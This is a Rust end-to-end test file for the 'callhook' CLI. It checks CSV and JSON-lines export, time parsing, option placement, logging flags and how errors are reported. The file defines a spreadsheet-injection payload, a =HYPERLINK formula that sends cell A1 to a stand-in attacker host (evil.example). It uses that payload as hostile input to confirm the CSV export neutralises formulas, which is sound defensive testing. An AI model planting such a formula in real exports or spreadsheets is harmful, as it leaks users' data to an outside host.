//! The command's habits on a test stack's tables (DynamoDB Local): what `export` writes, how
//! times, secrets and errors are taken and told.
#![allow(clippy::unwrap_used, clippy::expect_used)]

use callhook_e2e::{Stack, fixture};
use serde_json::Value;
use std::process::{Command, Output, Stdio};

mod common;

const VOX_CALL: &str = "3079f46c-d141-4cd9-805f-69f212136b66";
const HYPERLINK: &str = "=HYPERLINK(\"https://evil.example/?leak=\"&A1,\"Click\")";

/// `callhook ARGS` on the stack's tables; expects success and returns stdout.
fn ok(stack: &Stack, args: &[&str]) -> String {
    let out = common::run(stack, args);
    assert!(
        out.status.success(),
        "callhook {args:?} failed ({}): {}",
        out.status,
        String::from_utf8_lossy(&out.stderr)
    );
    String::from_utf8(out.stdout).unwrap()
}

/// A stack holding one vox call whose caller-controlled text would be formulas in a spreadsheet.
async fn stack_with_a_hostile_call() -> Stack {
    let mut stack = Stack::new().await;
    let mut body: Value = serde_json::from_slice(&fixture("vox", "v2_call_analyzed")).unwrap();
    body["call"]["from_number"] = "+14155550123".into();
    body["call"]["agent"]["agent_id"] = "@SUM(1+1)".into();
    body["call"]["transcript"][0]["content"] = HYPERLINK.into();
    body["call"]["call_analysis"]["summary"] = HYPERLINK.into();
    let reply = stack.send("vox", body.to_string().as_bytes()).await;
    assert_eq!(reply.status, 200, "{reply:?}");
    stack.drain().await;
    assert!(stack.call("vox", VOX_CALL).await.is_some());
    stack
}

#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
async fn csv_export_neutralizes_formulas_and_jsonl_keeps_values() {
    let stack = stack_with_a_hostile_call().await;

    // WHEN the calls are exported as CSV
    let text = ok(&stack, &["export", "--format", "csv"]);
    // THEN the header is the documented one, untouched
    let mut reader = csv::Reader::from_reader(text.as_bytes());
    let header: Vec<String> = reader
        .headers()
        .unwrap()
        .iter()
        .map(str::to_owned)
        .collect();
    assert_eq!(header.join(","), callhook_columns());
    let rows: Vec<csv::StringRecord> = reader.records().map(Result::unwrap).collect();
    assert_eq!(rows.len(), 1, "{text}");
    let cell = |name: &str| {
        let i = header.iter().position(|h| h == name).unwrap();
        rows[0][i].to_owned()
    };
    // AND every cell a spreadsheet would evaluate starts with a `'`
    assert_eq!(cell("summary"), format!("'{HYPERLINK}"), "{text}");
    assert_eq!(cell("from_number"), "'+14155550123");
    assert_eq!(cell("agent_id"), "'@SUM(1+1)");
    // AND the rest is as stored: the transcript cell is JSON (it starts with `[`, no formula)
    assert_eq!(cell("call_id"), VOX_CALL);
    assert_eq!(cell("to_number"), "07012345678");
    let transcript: Value = serde_json::from_str(&cell("transcript")).unwrap();
    assert_eq!(transcript[0]["content"], HYPERLINK);
    assert!(
        !text.lines().any(|line| line.starts_with('=')),
        "no line starts a formula: {text}"
    );

    // WHEN they are exported as JSON lines THEN the values are kept as they are
    let jsonl = ok(&stack, &["export", "--format", "jsonl"]);
    let record: Value = serde_json::from_str(jsonl.lines().next().unwrap()).unwrap();
    assert_eq!(record["from_number"], "+14155550123");
    assert_eq!(record["analysis"]["summary"], HYPERLINK);
}

#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
async fn export_writes_json_lines_unless_told_otherwise() {
    let stack = stack_with_a_hostile_call().await;
    // WHEN `export` is run without --format
    let default = ok(&stack, &["export"]);
    // THEN it writes what --format jsonl writes: one JSON record per line
    assert_eq!(default, ok(&stack, &["export", "--format", "jsonl"]));
    let lines: Vec<Value> = default
        .lines()
        .map(|l| serde_json::from_str(l).unwrap())
        .collect();
    assert_eq!(lines.len(), 1);
    assert_eq!(lines[0]["call_id"], VOX_CALL);
}

/// The documented CSV header (README and `export --help`).
fn callhook_columns() -> &'static str {
    "provider,call_id,agent_id,agent_version,direction,from_number,to_number,status,outcome,\
     missed,started_at,ended_at,duration_ms,end_reason,recording_url,cost_amount,cost_unit,\
     summary,sentiment,transcript_turns,transcript,events,first_event_at,last_event_at,\
     sensitive_data_opt_out"
}

#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
async fn since_takes_ages_dates_and_unix_ms() {
    // The call started on 2025-03-11T00:18:32Z.
    let stack = stack_with_a_hostile_call().await;
    let exported = |since: &str| ok(&stack, &["export", "--since", since]).lines().count();
    // An age of many units, or several: humantime's forms
    assert_eq!(exported("1h 30m"), 0);
    assert_eq!(exported("30m"), 0);
    assert_eq!(exported("7d"), 0);
    assert_eq!(exported("1000weeks"), 1);
    assert_eq!(exported("20years 3months"), 1);
    // Dates, RFC 3339 and unix milliseconds as before
    assert_eq!(exported("2025-03-10"), 1);
    assert_eq!(exported("2025-03-12"), 0);
    assert_eq!(exported("2025-03-11T00:18:00Z"), 1);
    assert_eq!(exported("1741652312146"), 1);
    assert_eq!(exported("1741652312147"), 0);
    // Anything else is refused with the forms it takes
    let out = common::run(&stack, &["export", "--since", "5 parsecs"]);
    assert_eq!(out.status.code(), Some(2));
    assert!(String::from_utf8_lossy(&out.stderr).contains("1h 30m"));
}

/// `callhook ARGS` with none of the caller's `CALLHOOK_*` or `AWS_*` variables: the stack is
/// named by options only.
fn bare(args: &[&str]) -> Output {
    let mut command = Command::new(env!("CARGO_BIN_EXE_callhook"));
    for (key, _) in std::env::vars() {
        if key.starts_with("CALLHOOK_") || key.starts_with("AWS_") {
            command.env_remove(key);
        }
    }
    command.args(args).stdin(Stdio::null()).output().unwrap()
}

fn stdout_of(out: &Output) -> String {
    assert!(
        out.status.success(),
        "{}: {}",
        out.status,
        String::from_utf8_lossy(&out.stderr)
    );
    String::from_utf8(out.stdout.clone()).unwrap()
}

#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
async fn stack_options_go_before_or_after_the_subcommand() {
    let stack = stack_with_a_hostile_call().await;
    let endpoint = callhook_e2e::endpoint();
    let tables = [
        "--events-table",
        &stack.config.events_table,
        "--calls-table",
        &stack.config.calls_table,
        "--endpoint",
        &endpoint,
    ];
    // The tables and endpoint, before the subcommand, after it, or some of each
    let before = stdout_of(&bare(&[&tables[..], &["export"]].concat()));
    assert!(before.contains(VOX_CALL), "{before}");
    let after = stdout_of(&bare(&[&["export"][..], &tables].concat()));
    assert_eq!(after, before);
    let mixed = stdout_of(&bare(
        &[&tables[..2], &["calls", "list"], &tables[2..]].concat(),
    ));
    assert!(mixed.contains(VOX_CALL), "{mixed}");
    // --number-index-key before or after: numbers are looked up hashed with it, and this stack
    // keeps them as they are, so the call is not found through its number with a key
    let by_number = [&tables[..], &["export", "--number", "+14155550123"]].concat();
    assert_eq!(stdout_of(&bare(&by_number)), before);
    let keyed_before = [&["--number-index-key", "k"][..], &by_number].concat();
    let keyed_after = [&by_number[..], &["--number-index-key", "k"]].concat();
    assert_eq!(stdout_of(&bare(&keyed_before)), "");
    assert_eq!(stdout_of(&bare(&keyed_after)), "");
    // --state before or after: a state file naming the same tables
    let dir = std::env::temp_dir().join(format!("callhook-habits-state-{}", std::process::id()));
    std::fs::create_dir_all(&dir).unwrap();
    let state = dir.join("dev.json");
    let file = serde_json::json!({
        "dynamodb_endpoint": endpoint,
        "events_table": stack.config.events_table,
        "calls_table": stack.config.calls_table,
        "base_url": "http://127.0.0.1:9",
        "opt_out_policy": "keep",
        "webhooks": {},
        "pid": std::process::id(),
    });
    std::fs::write(&state, file.to_string()).unwrap();
    let state = state.to_str().unwrap();
    assert_eq!(stdout_of(&bare(&["--state", state, "export"])), before);
    assert_eq!(stdout_of(&bare(&["export", "--state", state])), before);
    let missing = bare(&["--state", "/nonexistent/dev.json", "export"]);
    assert_eq!(missing.status.code(), Some(3));
    std::fs::remove_dir_all(&dir).unwrap();
}

#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
async fn verbose_logs_more_and_quiet_keeps_only_the_data() {
    let stack = stack_with_a_hostile_call().await;
    let stderr = |out: &Output| String::from_utf8_lossy(&out.stderr).into_owned();
    // By default: the data, a remark, no debug logging
    let plain = common::run(&stack, &["export"]);
    let data = stdout_of(&plain);
    assert!(
        stderr(&plain).contains("Exported 1 calls"),
        "{}",
        stderr(&plain)
    );
    assert!(!stderr(&plain).contains("DEBUG"), "{}", stderr(&plain));
    // -q, before or after the subcommand: the same data, nothing else
    for args in [&["-q", "export"][..], &["export", "--quiet"]] {
        let quiet = common::run(&stack, args);
        assert_eq!(stdout_of(&quiet), data);
        assert_eq!(stderr(&quiet), "", "{args:?}");
    }
    // -v is repeatable: -vv logs at debug (the SDK's requests among it)
    for args in [&["-vv", "export"][..], &["export", "-v", "-v"]] {
        let verbose = common::run(&stack, args);
        assert_eq!(stdout_of(&verbose), data);
        assert!(
            stderr(&verbose).contains("DEBUG"),
            "{args:?}: {}",
            stderr(&verbose)
        );
    }
    let info = common::run(&stack, &["-v", "export"]);
    assert!(!stderr(&info).contains("DEBUG"), "{}", stderr(&info));
    // Both at once is an argument error
    let both = common::run(&stack, &["-q", "-v", "export"]);
    assert_eq!(both.status.code(), Some(2));
}

#[test]
fn errors_are_printed_with_their_causes() {
    // Nothing listens on this port
    let port = std::net::TcpListener::bind("127.0.0.1:0")
        .unwrap()
        .local_addr()
        .unwrap()
        .port();
    let url = format!("http://127.0.0.1:{port}");
    let out = bare(&[
        "send",
        "vox",
        "v2_call_started",
        "--url",
        &url,
        "--token",
        "t",
    ]);
    assert_eq!(out.status.code(), Some(1));
    let stderr = String::from_utf8_lossy(&out.stderr);
    let line = stderr.trim_end();
    // One line: the error, then each cause after a colon, down to the refused connection
    assert_eq!(line.lines().count(), 1, "{line}");
    assert!(
        line.starts_with(&format!("callhook: cannot reach {url}/webhooks/vox (")),
        "{line}"
    );
    let causes: Vec<&str> = line.split(": ").skip(2).collect();
    assert!(causes.len() >= 2, "{line}");
    assert!(
        causes.last().unwrap().contains("Connection refused"),
        "{line}"
    );

    // The same for DynamoDB: the SDK's "dispatch failure" keeps what lies under it.
    let out = Command::new(env!("CARGO_BIN_EXE_callhook"))
        .args(["calls", "list", "--events-table", "e", "--calls-table", "c"])
        .args(["--endpoint", &url])
        .env("AWS_ACCESS_KEY_ID", "local")
        .env("AWS_SECRET_ACCESS_KEY", "local")
        .env("AWS_REGION", "us-east-1")
        .env("AWS_MAX_ATTEMPTS", "1")
        .stdin(Stdio::null())
        .output()
        .unwrap();
    assert_eq!(out.status.code(), Some(1));
    let stderr = String::from_utf8_lossy(&out.stderr);
    let line = stderr.trim_end();
    assert_eq!(line.lines().count(), 1, "{line}");
    assert!(line.contains("dispatch failure"), "{line}");
    assert!(
        line.ends_with("Connection refused (os error 111)"),
        "{line}"
    );
}

#[test]
fn completions_for_every_shell_and_a_man_page() {
    for shell in ["bash", "zsh", "fish", "powershell", "elvish"] {
        let out = bare(&["completions", shell]);
        let script = stdout_of(&out);
        assert!(!script.trim().is_empty(), "{shell}");
        assert!(script.contains("callhook"), "{shell}: {script}");
        // the subcommands and the global options are completed
        assert!(
            script.contains("export") && script.contains("calls-table"),
            "{shell}"
        );
    }
    let out = bare(&["completions", "tcsh"]);
    assert_eq!(out.status.code(), Some(2));
    let page = stdout_of(&bare(&["man"]));
    assert!(page.contains(".TH callhook"), "{page}");
    assert!(
        page.contains("completions") && page.contains("export"),
        "{page}"
    );
}
